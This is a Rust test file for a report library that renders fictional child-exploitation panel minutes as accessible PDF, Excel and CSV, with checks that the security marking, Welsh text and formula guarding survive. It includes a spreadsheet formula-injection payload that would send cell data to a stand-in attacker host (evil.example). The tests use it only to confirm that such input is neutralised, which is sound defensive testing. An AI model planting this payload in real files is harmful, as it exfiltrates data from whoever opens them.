//! MACE minutes and an action register rendered as a person and their software meet them: the
//! PDF read back with a PDF reader (text on every page, the catalog's accessibility entries, the
//! structure tree), the workbook read back with calamine and its sheet XML, the CSV read back
//! with the csv reader. A hostile name (`=HYPERLINK(…)`) never becomes a formula.
//!
//! Run: `cargo test -p haven-report --test render`

#![expect(clippy::unwrap_used, reason = "a test fails loudly at the first surprise, helpers included")]

use std::collections::{BTreeMap, BTreeSet};
use std::io::{Cursor, Read};

use chrono::NaiveDate;
use haven_report::{Block, Cell, Document, Marking, ReportError, Table, csv, pdf, xlsx};

const HOSTILE: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

fn date(d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(2026, 12, d).unwrap()
}

/// An action register long enough to run over several pages, with a hostile owner name.
fn actions(rows: usize) -> Table {
    let mut t = Table::new(
        "Action register",
        vec!["Ref".into(), "Action".into(), "Owner".into(), "Due".into(), "Children".into()],
    );
    for n in 1..=rows {
        let owner = if n == 3 { HOSTILE.to_owned() } else { "Morlais Police".to_owned() };
        t.rows.push(vec![
            Cell::Text(format!("A{n:03}")),
            Cell::Text(format!(
                "Disrupt the address linked to item {n}: visit with housing, and refer the \
                 associates to the exploitation panel"
            )),
            Cell::Text(owner),
            Cell::Date(date(10)),
            Cell::from(i64::try_from(n).unwrap()),
        ]);
    }
    t
}

fn minutes(rows: usize) -> Document {
    Document::new(
        "MACE minutes: Morlais, 3 December 2026",
        "en-GB",
        Marking::OfficialSensitive,
        "Morlais MACE — Morlais Police",
        date(3),
    )
    .with(Block::Heading { level: 2, text: "Meeting".into() })
    .with(Block::Facts(vec![
        ("Date".into(), "3 December 2026, 10:00".into()),
        ("Chair".into(), "DI Rhian Ŵyn".into()),
        ("Attendees".into(), "Morlais Police; Morlais Council children's services; Bwrdd Iechyd; Ysgol y Bryn".into()),
    ]))
    .with(Block::Paragraph("The panel reviewed the children on the agenda in priority order.".into()))
    .with(Block::Heading { level: 2, text: "Actions".into() })
    .with(Block::Table(actions(rows)))
}

// ---------------------------------------------------------------- PDF

fn pdf_text(doc: &lopdf::Document, page: u32) -> String {
    doc.extract_text(&[page]).unwrap()
}

fn deref<'a>(doc: &'a lopdf::Document, obj: &'a lopdf::Object) -> &'a lopdf::Object {
    doc.dereference(obj).unwrap().1
}

/// How many elements of each structure type (`/S`) the structure tree has, and the scopes of
/// the `TH` elements.
fn structure(doc: &lopdf::Document) -> (BTreeMap<String, usize>, BTreeSet<String>) {
    fn walk(
        doc: &lopdf::Document,
        obj: &lopdf::Object,
        types: &mut BTreeMap<String, usize>,
        scopes: &mut BTreeSet<String>,
    ) {
        match deref(doc, obj) {
            lopdf::Object::Array(items) => {
                for item in items {
                    walk(doc, item, types, scopes);
                }
            }
            lopdf::Object::Dictionary(d) => {
                if let Ok(s) = d.get(b"S").and_then(lopdf::Object::as_name) {
                    let s = String::from_utf8_lossy(s).into_owned();
                    if s == "TH"
                        && let Ok(a) = d.get(b"A")
                    {
                        let a = deref(doc, a);
                        let attrs: Vec<&lopdf::Object> = match a {
                            lopdf::Object::Array(v) => v.iter().collect(),
                            other => vec![other],
                        };
                        for attr in attrs {
                            if let Ok(d) = deref(doc, attr).as_dict()
                                && let Ok(scope) = d.get(b"Scope").and_then(lopdf::Object::as_name)
                            {
                                scopes.insert(String::from_utf8_lossy(scope).into_owned());
                            }
                        }
                    }
                    *types.entry(s).or_default() += 1;
                }
                if let Ok(k) = d.get(b"K") {
                    walk(doc, k, types, scopes);
                }
            }
            _ => {}
        }
    }
    let catalog = doc.catalog().unwrap();
    let root = deref(doc, catalog.get(b"StructTreeRoot").unwrap()).as_dict().unwrap();
    let mut types = BTreeMap::new();
    let mut scopes = BTreeSet::new();
    walk(doc, root.get(b"K").unwrap(), &mut types, &mut scopes);
    (types, scopes)
}

#[test]
fn pdf_of_several_pages_has_the_text_and_the_marking_on_every_page() {
    let bytes = pdf::render(&minutes(60)).unwrap();
    assert!(bytes.starts_with(b"%PDF-1.7"));
    let doc = lopdf::Document::load_mem(&bytes).unwrap();
    let pages = doc.get_pages();
    assert!(pages.len() >= 3, "a long register runs over pages: {}", pages.len());
    let total = pages.len();
    for &n in pages.keys() {
        let text = pdf_text(&doc, n);
        assert!(
            text.matches("OFFICIAL-SENSITIVE").count() >= 2,
            "page {n} has the marking as header and footer: {text}"
        );
        assert!(text.contains(&format!("Page {n} of {total}")), "page {n}: {text}");
    }
    // The marking and page number are pagination artifacts, attached top and bottom.
    for (&n, &id) in &pages {
        let content = String::from_utf8_lossy(&doc.get_page_content(id)).into_owned();
        for attached in
            ["/Attached[/Top]/Subtype/Header/Type/Pagination", "/Attached[/Bottom]/Subtype/Footer/Type/Pagination"]
        {
            assert!(content.contains(attached), "page {n}: {attached}");
        }
    }
    let first = pdf_text(&doc, 1);
    assert!(first.contains("MACE minutes: Morlais, 3 December 2026"), "{first}");
    assert!(first.contains("Chair"));
    let all: String = pages.keys().map(|&n| pdf_text(&doc, n)).collect();
    assert!(all.contains("A060"), "the last row is there");
    // The header row is repeated on the pages the table continues on.
    let last = pdf_text(&doc, u32::try_from(total).unwrap());
    assert!(last.contains("Owner"), "{last}");
}

#[test]
fn pdf_catalog_declares_a_tagged_titled_document_in_its_language() {
    let bytes = pdf::render(&minutes(5)).unwrap();
    let doc = lopdf::Document::load_mem(&bytes).unwrap();
    let catalog = doc.catalog().unwrap();

    let mark_info = deref(&doc, catalog.get(b"MarkInfo").unwrap()).as_dict().unwrap();
    assert!(mark_info.get(b"Marked").unwrap().as_bool().unwrap());
    assert!(catalog.has(b"StructTreeRoot"));
    let lang = lopdf::decode_text_string(catalog.get(b"Lang").unwrap()).unwrap();
    assert_eq!(lang, "en-GB");
    let prefs = deref(&doc, catalog.get(b"ViewerPreferences").unwrap()).as_dict().unwrap();
    assert!(prefs.get(b"DisplayDocTitle").unwrap().as_bool().unwrap());
    assert!(catalog.has(b"Outlines"), "bookmarks, as PDF/UA asks");

    let info = deref(&doc, doc.trailer.get(b"Info").unwrap()).as_dict().unwrap();
    let title = lopdf::decode_text_string(info.get(b"Title").unwrap()).unwrap();
    assert_eq!(title, "MACE minutes: Morlais, 3 December 2026");
    assert!(String::from_utf8_lossy(&bytes).contains("pdfuaid:part"), "claims PDF/UA-1 in its XMP metadata");
}

#[test]
fn pdf_structure_tree_has_headings_paragraphs_and_a_table_with_scoped_headers() {
    // Long enough to run over pages: the repeated header rows are artifacts, not structure.
    let bytes = pdf::render(&minutes(60)).unwrap();
    let doc = lopdf::Document::load_mem(&bytes).unwrap();
    assert!(doc.get_pages().len() > 2);
    let (types, scopes) = structure(&doc);
    let count = |t: &str| types.get(t).copied().unwrap_or(0);
    assert_eq!(count("H1"), 1, "the title: {types:?}");
    assert_eq!(count("H2"), 2, "Meeting, Actions");
    assert_eq!(count("P"), 2, "the byline and the paragraph");
    assert_eq!((count("L"), count("LI"), count("Lbl"), count("LBody")), (1, 3, 3, 3), "the facts");
    assert_eq!((count("Table"), count("Caption"), count("THead"), count("TBody")), (1, 1, 1, 1));
    assert_eq!(count("TR"), 61, "one header row and 60 rows, each once");
    assert_eq!(count("TH"), 5);
    assert_eq!(count("TD"), 300);
    assert_eq!(scopes, BTreeSet::from(["Column".to_owned()]));
}

#[test]
fn pdf_welsh_text_round_trips_and_the_furniture_is_in_welsh() {
    let doc = Document::new("Cofnodion MACE: Morlais", "cy", Marking::Official, "MACE Morlais", date(3))
        .with(Block::Paragraph("Mae'r ŵyl yn y dŷ; â'r plentyn i'r ysgol. Ŵyr, Ŷ, ŷ, â.".into()));
    let bytes = pdf::render(&doc).unwrap();
    let read = lopdf::Document::load_mem(&bytes).unwrap();
    let text = pdf_text(&read, 1);
    assert!(text.contains("Mae'r ŵyl yn y dŷ; â'r plentyn i'r ysgol. Ŵyr, Ŷ, ŷ, â."), "{text}");
    assert!(text.contains("Tudalen 1 o 1"), "{text}");
    assert!(text.contains("3 Rhagfyr 2026"), "{text}");
    let lang = lopdf::decode_text_string(read.catalog().unwrap().get(b"Lang").unwrap()).unwrap();
    assert_eq!(lang, "cy");
}

#[test]
fn a_ragged_table_is_refused_by_every_format() {
    let mut t = actions(2);
    t.rows[1].pop();
    let doc = minutes(0).with(Block::Table(t.clone()));
    assert!(matches!(pdf::render(&doc), Err(ReportError::RaggedRow { row: 2, .. })));
    assert!(matches!(xlsx::render(&doc), Err(ReportError::RaggedRow { row: 2, .. })));
    assert!(matches!(csv::render(&t, Marking::Official), Err(ReportError::RaggedRow { row: 2, .. })));
}

#[test]
fn pdf_edge_cases_still_pass_the_pdf_ua_validator() {
    // No blocks at all; a table with no rows; an empty cell; a heading level out of range;
    // characters DejaVu Sans lacks (an ideograph, an emoji); a very long title.
    let mut empty_cells = Table::new("Empty cells", vec!["A".into(), "".into()]);
    empty_cells.rows.push(vec!["".into(), "x".into()]);
    let docs = [
        Document::new("Nothing", "en-GB", Marking::Official, "", date(3)),
        minutes(0)
            .with(Block::Table(Table::new("No rows", vec!["Only a header".into()])))
            .with(Block::Table(empty_cells))
            .with(Block::Heading { level: 9, text: "Too deep".into() })
            .with(Block::Heading { level: 0, text: "Too shallow".into() })
            .with(Block::Paragraph("Name: 王 \u{1F600}".into()))
            // Pasted from a word processor: a byte-order mark, a noncharacter, zero-width and
            // bidi controls, a soft hyphen, a private-use character, a NUL.
            .with(Block::Paragraph("a\u{FEFF}b\u{FFFE}c\u{200B}d\u{200D}e\u{202E}f\u{00AD}g\u{E000}h\u{0}i".into()))
            .with(Block::Facts(vec![])),
        Document::new("Long title ".repeat(40), "en-GB", Marking::Official, "MACE", date(3)),
    ];
    for doc in &docs {
        let bytes = pdf::render(doc).unwrap_or_else(|e| panic!("{}: {e}", doc.title));
        let read = lopdf::Document::load_mem(&bytes).unwrap();
        assert!(!read.get_pages().is_empty());
    }
}

// ---------------------------------------------------------------- XLSX

fn zip_entry(bytes: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut entry = archive.by_name(name).unwrap();
    let mut xml = String::new();
    entry.read_to_string(&mut xml).unwrap();
    xml
}

#[test]
fn xlsx_has_an_about_sheet_and_a_sheet_per_table_with_typed_cells() {
    use calamine::{Data, Reader, Xlsx};
    let bytes = xlsx::render(&minutes(40)).unwrap();
    let mut book = Xlsx::new(Cursor::new(bytes.clone())).unwrap();
    assert_eq!(book.sheet_names(), vec!["About", "Action register"]);

    let about = book.worksheet_range("About").unwrap();
    assert_eq!(about.get((0, 0)), Some(&Data::String("OFFICIAL-SENSITIVE".into())));
    assert_eq!(about.get((1, 0)), Some(&Data::String("MACE minutes: Morlais, 3 December 2026".into())));
    let about_text: Vec<String> = about.cells().map(|(_, _, c)| c.to_string()).collect();
    assert!(about_text.contains(&"DI Rhian Ŵyn".to_owned()));

    let sheet = book.worksheet_range("Action register").unwrap();
    assert_eq!(sheet.get((0, 0)), Some(&Data::String("OFFICIAL-SENSITIVE".into())));
    let header: Vec<String> = (0..5).map(|c| sheet.get((1, c)).unwrap().to_string()).collect();
    assert_eq!(header, ["Ref", "Action", "Owner", "Due", "Children"]);
    assert_eq!(sheet.height(), 2 + 40, "the marking, the header and every row");
    for r in 0..40u32 {
        let row = 2 + r as usize;
        assert_eq!(sheet.get((row, 0)), Some(&Data::String(format!("A{:03}", r + 1))));
        assert_eq!(sheet.get((row, 4)), Some(&Data::Float(f64::from(r + 1))), "numbers are numbers");
        assert!(
            matches!(sheet.get((row, 3)), Some(Data::DateTime(d)) if d.as_f64() == 46366.0),
            "dates are dates: {:?}",
            sheet.get((row, 3))
        );
    }
    // The hostile owner is text, not a formula.
    assert_eq!(sheet.get((4, 2)), Some(&Data::String(HOSTILE.into())));
    let formulas = book.worksheet_formula("Action register").unwrap();
    assert!(formulas.cells().all(|(_, _, f)| f.is_empty()), "no formulas at all");
}

#[test]
fn xlsx_sheets_carry_the_marking_in_the_printed_header_and_footer_and_freeze_the_header() {
    let bytes = xlsx::render(&minutes(3)).unwrap();
    for sheet in ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"] {
        let xml = zip_entry(&bytes, sheet);
        assert!(xml.contains("<oddHeader>&amp;C&amp;\"-,Bold\"OFFICIAL-SENSITIVE</oddHeader>"), "{sheet}: {xml}");
        assert!(
            xml.contains("<oddFooter>&amp;C&amp;\"-,Bold\"OFFICIAL-SENSITIVE&amp;RPage &amp;P of &amp;N</oddFooter>"),
            "{sheet}: {xml}"
        );
        assert!(xml.contains("<pageSetup paperSize=\"9\""), "A4: {xml}");
    }
    let table = zip_entry(&bytes, "xl/worksheets/sheet2.xml");
    assert!(table.contains("ySplit=\"2\""), "marking and header frozen: {table}");
    assert!(!table.contains("<f>"), "no formulas");
    // The hostile cell is quote-prefixed (text even when retyped).
    let styles = zip_entry(&bytes, "xl/styles.xml");
    assert!(styles.contains("quotePrefix=\"1\""), "{styles}");
    // The table is an Excel table (its header row announced by screen readers).
    let excel_table = zip_entry(&bytes, "xl/tables/table1.xml");
    assert!(excel_table.contains("ref=\"A2:E5\""), "{excel_table}");
    assert!(excel_table.contains("<tableColumn id=\"3\" name=\"Owner\""), "{excel_table}");
    let props = zip_entry(&bytes, "docProps/core.xml");
    assert!(props.contains("<dc:title>MACE minutes: Morlais, 3 December 2026</dc:title>"), "{props}");
    let custom = zip_entry(&bytes, "docProps/custom.xml");
    assert!(custom.contains("Classification") && custom.contains("OFFICIAL-SENSITIVE"), "{custom}");
    assert!(custom.contains("Language") && custom.contains("en-GB"), "{custom}");
}

#[test]
fn xlsx_in_welsh_has_welsh_furniture() {
    use calamine::{Data, Reader, Xlsx};
    let mut t = Table::new("Camau gweithredu", vec!["Cam".into(), "Perchennog".into()]);
    t.rows.push(vec!["Ymweld â'r tŷ".into(), "Heddlu Morlais".into()]);
    let doc = Document::new("Cofnodion MACE", "cy", Marking::OfficialSensitive, "MACE Morlais", date(3))
        .with(Block::Table(t));
    let bytes = xlsx::render(&doc).unwrap();
    let mut book = Xlsx::new(Cursor::new(bytes.clone())).unwrap();
    assert_eq!(book.sheet_names(), vec!["Amdani", "Camau gweithredu"]);
    let about = book.worksheet_range("Amdani").unwrap();
    assert_eq!(about.get((3, 0)), Some(&Data::String("3 Rhagfyr 2026".into())));
    let sheet = book.worksheet_range("Camau gweithredu").unwrap();
    assert_eq!(sheet.get((2, 0)), Some(&Data::String("Ymweld â'r tŷ".into())));
    let xml = zip_entry(&bytes, "xl/worksheets/sheet2.xml");
    assert!(xml.contains("&amp;RTudalen &amp;P o &amp;N</oddFooter>"), "{xml}");
}

#[test]
fn xlsx_sheet_names_from_captions_are_valid_and_unique() {
    use calamine::{Reader, Xlsx};
    let mut a = Table::new("Actions: open/closed [all]?", vec!["x".into()]);
    a.rows.push(vec!["1".into()]);
    let b = Table::new("Actions: open/closed [all]?", vec!["x".into()]);
    let c = Table::new("A caption much longer than thirty-one characters", vec!["x".into()]);
    let doc = minutes(0).with(Block::Table(a)).with(Block::Table(b)).with(Block::Table(c));
    let bytes = xlsx::render(&doc).unwrap();
    let book = Xlsx::new(Cursor::new(bytes)).unwrap();
    let names = book.sheet_names();
    assert_eq!(
        names,
        vec![
            "About",
            "Action register",
            "Actions openclosed all",
            "Actions openclosed all (2)",
            "A caption much longer than thir"
        ]
    );
}

// ---------------------------------------------------------------- CSV

fn read_csv(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut reader = ::csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(bytes);
    reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect()
}

#[test]
fn csv_has_the_marking_first_and_last_and_every_row_between() {
    let table = actions(4);
    let bytes = csv::render(&table, Marking::OfficialSensitive).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBFOFFICIAL-SENSITIVE\n"), "BOM, then the marking");
    assert!(bytes.ends_with(b"\nOFFICIAL-SENSITIVE\n"));
    let rows = read_csv(&bytes);
    assert_eq!(rows.len(), 1 + 1 + 4 + 1);
    assert_eq!(rows[0], ["OFFICIAL-SENSITIVE"]);
    assert_eq!(rows[1], ["Ref", "Action", "Owner", "Due", "Children"]);
    assert_eq!(rows[2][0], "A001");
    assert!(rows[2][1].starts_with("Disrupt the address linked to item 1: visit"));
    assert_eq!(rows[2][3], "2026-12-10", "dates in ISO 8601");
    assert_eq!(rows[5][4], "4", "numbers plainly");
    assert_eq!(rows[6], ["OFFICIAL-SENSITIVE"]);
}

#[test]
fn csv_guards_every_formula_starter() {
    let mut t = Table::new("Hostile", vec!["Name".into(), "=Header".into()]);
    for hostile in [HOSTILE, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"] {
        t.rows.push(vec![hostile.into(), "plain".into()]);
    }
    t.rows.push(vec![Cell::Number(-5.0), "O'Brien".into()]);
    let rows = read_csv(&csv::render(&t, Marking::Official).unwrap());
    assert_eq!(rows[1], ["Name", "'=Header"]);
    let names: Vec<&str> = rows[2..9].iter().map(|r| r[0].as_str()).collect();
    assert_eq!(
        names,
        [format!("'{HOSTILE}").as_str(), "'+1+1", "'-2+3", "'@SUM(A1:A2)", "'\t=1", "'\r=1", "-5"],
        "text is guarded; a negative number stays a number"
    );
    assert_eq!(rows[8][1], "O'Brien");
}

// ---------------------------------------------------------------- any text

mod any_text {
    use proptest::prelude::*;

    use super::*;

    proptest! {
        #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

        /// Whatever people typed (any Unicode at all), every format renders it: the PDF still
        /// passes the PDF/UA-1 validator, and the CSV and XLSX keep the text exactly.
        #[test]
        fn any_text_renders_in_every_format(
            heading in any::<String>().prop_filter("a heading has text", |h| !h.trim().is_empty()),
            paragraph in any::<String>(),
            label in any::<String>(),
            cell in any::<String>(),
        ) {
            let mut t = Table::new(cell.clone(), vec![label.clone(), "Plain".into()]);
            t.rows.push(vec![Cell::Text(cell.clone()), Cell::Text(paragraph.clone())]);
            let doc = Document::new(heading.clone(), "cy", Marking::Official, label.clone(), date(3))
                .with(Block::Heading { level: 2, text: heading })
                .with(Block::Paragraph(paragraph))
                .with(Block::Facts(vec![(label, cell.clone())]))
                .with(Block::Table(t.clone()));
            let pdf = pdf::render(&doc);
            prop_assert!(pdf.is_ok(), "{:?}", pdf.err());
            let xlsx = xlsx::render(&doc);
            prop_assert!(xlsx.is_ok(), "{:?}", xlsx.err());
            let rows = read_csv(&csv::render(&t, Marking::Official).unwrap());
            let written = &rows[2][0];
            let expected = if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                format!("'{cell}")
            } else {
                cell
            };
            prop_assert_eq!(written, &expected);
        }
    }
}

/// A board pack's chart: in the PDF a `Figure` with its title as the alternative text, drawn
/// with paths, then its data table (PDF/UA-1 still passes); in the workbook only the table.
#[test]
fn a_chart_is_a_figure_with_alternative_text_followed_by_its_data_table() {
    use haven_report::chart::{Chart, ChartKind, Series};
    let mut table = Table::new("Data: episodes by grade", vec!["Grade".into(), "This period".into(), "Before".into()]);
    table.rows.push(vec!["High".into(), Cell::Number(12.0), Cell::Number(9.0)]);
    table.rows.push(vec!["Medium".into(), "fewer than 5".into(), Cell::Number(7.0)]);
    let chart = Chart {
        title: "Chart: episodes by grade".into(),
        kind: ChartKind::Bar,
        categories: vec!["High".into(), "Medium".into()],
        series: vec![
            Series { name: "This period".into(), values: vec![Some(12.0), None] },
            Series { name: "Before".into(), values: vec![Some(9.0), Some(7.0)] },
        ],
        table,
    };
    let doc = Document::new("Board pack", "en-GB", Marking::Official, "haven", date(3))
        .with(Block::Heading { level: 2, text: "Grading".into() })
        .with(Block::Chart(chart.clone()))
        .with(Block::Chart(Chart { kind: ChartKind::Line, ..chart }));
    let bytes = pdf::render(&doc).unwrap();
    let read = lopdf::Document::load_mem(&bytes).unwrap();
    let (types, _) = structure(&read);
    assert_eq!(types.get("Figure"), Some(&2), "{types:?}");
    assert_eq!(types.get("Table"), Some(&2), "each chart's data follows it");
    fn alts(doc: &lopdf::Document, obj: &lopdf::Object, out: &mut Vec<String>) {
        match deref(doc, obj) {
            lopdf::Object::Array(items) => items.iter().for_each(|i| alts(doc, i, out)),
            lopdf::Object::Dictionary(d) => {
                if d.get(b"S").and_then(lopdf::Object::as_name).is_ok_and(|s| s == b"Figure") {
                    out.push(lopdf::decode_text_string(d.get(b"Alt").unwrap()).unwrap());
                }
                if let Ok(k) = d.get(b"K") {
                    alts(doc, k, out);
                }
            }
            _ => {}
        }
    }
    let root = deref(&read, read.catalog().unwrap().get(b"StructTreeRoot").unwrap()).as_dict().unwrap();
    let mut found = Vec::new();
    alts(&read, root.get(b"K").unwrap(), &mut found);
    assert_eq!(found, ["Chart: episodes by grade", "Chart: episodes by grade"]);
    assert!(pdf_text(&read, 1).contains("fewer than 5"));
    let book = xlsx::render(&doc).unwrap();
    assert!(zip_entry(&book, "xl/workbook.xml").matches("<sheet ").count() == 3, "About and two tables");
}
